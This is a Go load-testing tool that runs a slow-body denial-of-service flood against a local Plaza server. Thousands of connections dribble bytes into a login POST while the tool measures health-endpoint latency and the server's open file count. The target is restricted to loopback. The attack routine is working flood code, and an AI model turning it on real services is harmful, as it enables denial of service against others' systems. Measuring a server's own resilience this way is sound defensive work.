// Command slowflood measures a slow-body flood against a running Plaza: it
// keeps up to --conns connections open, each announcing a 1 MB body and
// sending it one byte every --interval (reopening any the server answers or
// closes after --reconnect),
// while a probe asks /api/health on a fresh connection every --probe. It
// reports how many connections the attacker holds, the server's open files
// and how /api/health answered. Load goes to 127.0.0.1 only.
package main

import (
	"bufio"
	"encoding/json"
	"flag"
	"fmt"
	"net"
	"net/http"
	"os"
	"slices"
	"sync"
	"sync/atomic"
	"time"
)

func main() {
	target := flag.String("target", "127.0.0.1:8080", "server host:port (loopback only)")
	conns := flag.Int("conns", 5000, "connections the attacker keeps trying to hold")
	from := flag.String("from", "", "source address of the attacker's connections (e.g. 127.0.0.2); empty: default")
	interval := flag.Duration("interval", 5*time.Second, "one body byte per connection this often")
	duration := flag.Duration("duration", 40*time.Second, "length of the flood")
	reconnect := flag.Duration("reconnect", time.Second, "pause before reopening a connection the server answered or closed")
	probe := flag.Duration("probe", 500*time.Millisecond, "health probe period")
	pid := flag.Int("pid", 0, "server process id, to count its open files")
	jsonOut := flag.String("json", "", "write the figures here as JSON too")
	flag.Parse()
	if h, _, err := net.SplitHostPort(*target); err != nil || (h != "127.0.0.1" && h != "localhost") {
		fmt.Fprintln(os.Stderr, "slowflood: --target must be 127.0.0.1:PORT")
		os.Exit(2)
	}

	var held, opened, refused atomic.Int64
	stop := make(chan struct{})
	dialer := net.Dialer{Timeout: 2 * time.Second}
	if *from != "" {
		dialer.LocalAddr = &net.TCPAddr{IP: net.ParseIP(*from)}
	}
	var wg sync.WaitGroup
	// Each worker holds one connection at a time, reopening it when the
	// server answers or closes it.
	for i := range *conns {
		wg.Add(1)
		go func() {
			defer wg.Done()
			time.Sleep(time.Duration(i) * 100 * time.Microsecond) // ramp up over conns/10 ms
			for {
				select {
				case <-stop:
					return
				default:
				}
				attack(&dialer, *target, *interval, stop, &held, &opened, &refused)
				time.Sleep(*reconnect)
			}
		}()
	}

	type sample struct{ held, fds int }
	var samples []sample
	var lat []time.Duration
	var probes, answered int
	tick := time.NewTicker(*probe)
	end := time.After(*duration)
	client := &http.Client{Transport: &http.Transport{DisableKeepAlives: true}, Timeout: 2 * time.Second}
loop:
	for {
		select {
		case <-end:
			break loop
		case <-tick.C:
			probes++
			start := time.Now()
			res, err := client.Get("http://" + *target + "/api/health")
			if err == nil {
				res.Body.Close()
				if res.StatusCode == 200 {
					answered++
					lat = append(lat, time.Since(start))
				}
			}
			samples = append(samples, sample{int(held.Load()), openFiles(*pid)})
		}
	}
	close(stop)

	peakHeld, peakFDs := 0, 0
	for _, s := range samples {
		peakHeld, peakFDs = max(peakHeld, s.held), max(peakFDs, s.fds)
	}
	var lastHeld []int
	for _, s := range samples[len(samples)*3/4:] {
		lastHeld = append(lastHeld, s.held)
	}
	slices.Sort(lastHeld)
	slices.Sort(lat)
	q := func(p float64) float64 {
		if len(lat) == 0 {
			return 0
		}
		return float64(lat[min(len(lat)-1, int(p*float64(len(lat))))].Microseconds()) / 1000
	}
	out := map[string]any{
		"conns": *conns, "from": *from, "reconnect": reconnect.String(), "interval": interval.String(), "duration": duration.String(),
		"peakHeld": peakHeld, "heldLastQuarterMedian": lastHeld[len(lastHeld)/2], "peakServerFds": peakFDs,
		"opened": opened.Load(), "refusedOrCut": refused.Load(),
		"healthProbes": probes, "healthAnswered": answered, "healthP50ms": q(0.5), "healthP99ms": q(0.99), "healthMaxMs": q(1),
	}
	fmt.Printf("attacker: peak %d connections held, median %d over the last quarter; %d opened, %d answered or closed by the server\n",
		peakHeld, lastHeld[len(lastHeld)/2], opened.Load(), refused.Load())
	fmt.Printf("server:   peak %d open files\n", peakFDs)
	fmt.Printf("health:   %d of %d probes answered 200; p50 %.1f ms, p99 %.1f ms, max %.1f ms\n", answered, probes, q(0.5), q(0.99), q(1))
	if *jsonOut != "" {
		b, _ := json.MarshalIndent(out, "", "  ")
		os.WriteFile(*jsonOut, b, 0o644)
	}
	os.Exit(0) // the workers' connections close with the process
}

// attack opens one connection and dribbles its body until the server
// answers or closes it, or the flood stops.
func attack(d *net.Dialer, target string, every time.Duration, stop chan struct{}, held, opened, refused *atomic.Int64) {
	c, err := d.Dial("tcp", target)
	if err != nil {
		return
	}
	defer c.Close()
	opened.Add(1)
	if _, err := fmt.Fprintf(c, "POST /api/auth/login HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\nContent-Length: 1000000\r\n\r\n{", target); err != nil {
		return
	}
	held.Add(1)
	defer held.Add(-1)
	answer := make(chan struct{})
	go func() {
		bufio.NewReader(c).ReadByte() // any answer, or a close
		close(answer)
	}()
	t := time.NewTicker(every)
	defer t.Stop()
	for {
		select {
		case <-answer:
			refused.Add(1)
			return
		case <-stop:
			return
		case <-t.C:
			if _, err := c.Write([]byte(" ")); err != nil {
				refused.Add(1)
				return
			}
		}
	}
}

// openFiles counts the server's open file descriptors (Linux).
func openFiles(pid int) int {
	if pid == 0 {
		return 0
	}
	ents, err := os.ReadDir(fmt.Sprintf("/proc/%d/fd", pid))
	if err != nil {
		return 0
	}
	return len(ents)
}
